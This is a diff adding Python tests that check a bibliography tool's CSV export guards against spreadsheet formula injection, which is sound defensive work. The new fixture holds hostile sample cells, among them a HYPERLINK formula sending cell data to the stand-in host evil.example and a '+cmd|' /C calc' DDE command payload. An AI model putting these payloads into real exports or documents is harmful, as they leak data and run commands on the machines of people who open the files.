@@ -9,6 +9,8 @@ import json
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from sphinx_tc_ext import export
 from sphinx_tc_ext.bibmodel import load_bibliography, parse_bib_text
@@ -174,6 +176,40 @@ def test_csv_quotes_commas_and_quotes(taxonomy):
     (row,) = csv.DictReader(io.StringIO(export.to_csv(bib, taxonomy)))
     assert row["title"] == 'Commas, "Quotes" and; Semicolons'
     assert row["authors"] == 'Hai "Helen" Li; Jane Doe'
+
+
+def test_csv_neutralises_formulas(taxonomy):
+    text = r"""@inproceedings{=cmd2025,
+  title = {=HYPERLINK("https://evil.example/?"&A1, "click")},
+  author = {{@SUM(1+1)} and Doe, Jane},
+  booktitle = {-2+3 Workshop},
+  year = {2025},
+  areas = {image},
+  shortvenue = {+cmd|' /C calc'!A0},
+  added = {2025-07-29}
+}
+"""
+    bib = parse_bib_text(text, "x.bib", taxonomy)
+    data = export.to_csv(bib, taxonomy)
+    (row,) = csv.DictReader(io.StringIO(data))
+    assert row["key"] == "'=cmd2025"
+    assert row["title"] == ''''=HYPERLINK("https://evil.example/?"&A1, "click")'''
+    assert row["authors"] == "'@SUM(1+1); Jane Doe"
+    assert row["venue"] == "'-2+3 Workshop"
+    assert row["shortvenue"] == "'+cmd|' /C calc'!A0"
+    assert row["added"] == "2025-07-29" and row["type"] == "inproceedings"
+    for value in ("'=cmd2025", "'@SUM(1+1); Jane Doe", "'-2+3 Workshop"):
+        assert f'"{value}"' in data  # quoted as well
+
+
+@given(st.text(max_size=20))
+def test_csv_cells_read_back_and_never_start_a_formula(value):
+    (read_back,) = next(csv.reader(io.StringIO(export.csv_cell(value) + "\n"))) or [""]
+    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
+        assert read_back == "'" + value
+    else:
+        assert read_back == value
+    assert not read_back.startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
 # -- command line ---------------------------------------------------------------------------------
